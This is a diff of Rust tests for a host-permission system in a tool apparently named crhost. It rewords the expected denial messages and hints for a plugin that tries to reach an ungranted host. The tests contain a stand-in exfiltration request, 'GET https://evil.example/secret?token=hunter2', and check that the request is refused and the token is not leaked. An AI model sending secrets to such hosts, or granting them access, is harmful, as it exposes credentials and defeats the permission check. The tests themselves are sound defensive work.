@@ -118,14 +118,14 @@ fn the_person_hears_of_a_denial_whatever_the_flavor_makes_of_it() {
     let prober = Prober::new(&["--yes"]);
     let request = "GET https://evil.example/secret?token=hunter2";
     for (then, code, error) in [
-        ("failure", 4, "flavor `prober` may not reach `https://evil.example`"),
-        ("invention", 3, "the moon is not full"),
+        ("failure", 4, "flavor `prober`: `https://evil.example` is not granted to this flavor"),
+        ("invention", 3, "flavor `prober`: the moon is not full"),
         ("abort", 7, "flavor `prober` failed: `prepare-image-push` stopped"),
     ] {
         let name = prober.tell(request, &[&format!("--option=then={then}")]);
         let refused = prober.home.fails(code, &["push", "oci:layout:v1", "--to", &name]);
         assert!(refused.error().starts_with(error), "{}", *refused);
-        let hint = "if it should, grant it: `crhost flavor grant prober --allow-host https://evil.example`";
+        let hint = "if it should reach it, grant it: `crhost flavor grant prober --allow-host https://evil.example`";
         assert_eq!(refused.hint(), hint);
         // Paths and queries may hold secrets.
         assert!(!refused.stderr.contains("hunter2"), "{}", *refused);
@@ -136,7 +136,7 @@ fn the_person_hears_of_a_denial_whatever_the_flavor_makes_of_it() {
     // One that says nothing of it, and gets by without.
     let name = prober.tell(request, &["--option=then=silence"]);
     let pushed = prober.home.ok(&["push", "oci:layout:v1", "--to", &name, "-v"]);
-    assert!(pushed.stderr.contains("flavor `prober` may not reach `https://evil.example`"), "{pushed}");
+    assert!(pushed.stderr.contains("`https://evil.example` is not granted to this flavor"), "{pushed}");
     prober.assert_honest_push_works();
 }
 
@@ -145,7 +145,8 @@ fn a_call_that_has_nothing_to_ask_anyone_can_not() {
     let prober = Prober::new(&["--yes"]);
     let uri = format!("--uri={}/eager", prober.registry.host());
     let registered = prober.home.ok(&["registry", "register", "eager", "--flavor=prober", &uri]);
-    let warning = "warning: denied: flavor `prober` may send no requests while it describes itself or validates a URI";
+    let warning =
+        "warning: flavor `prober`: denied: no requests are sent while a flavor describes itself or validates a URI";
     assert!(registered.stderr.lines().any(|line| line == warning), "{registered}");
     prober.assert_honest_push_works();
 }
